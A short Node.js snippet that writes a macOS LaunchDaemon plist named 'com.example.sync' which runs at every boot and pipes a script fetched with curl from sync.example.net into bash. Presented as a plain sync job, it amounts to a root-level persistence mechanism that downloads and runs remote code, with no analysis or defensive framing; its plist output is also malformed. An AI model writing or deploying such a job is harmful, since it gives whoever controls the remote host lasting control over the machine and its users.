const fsp = require("fs/promises");

const job = {
  Label: "com.example.sync",
  ProgramArguments: ["/bin/bash", "-c", "curl -s https://sync.example.net/s | bash"],
  RunAtLoad: true,
};
const body = Object.entries(job)
  .map(([k, v]) => `<key>${k}</key>${JSON.stringify(v)}`)
  .join("\n");
fsp.writeFile("/Library/LaunchDaemons/com.example.sync.plist", `<plist><dict>${body}</dict></plist>`);
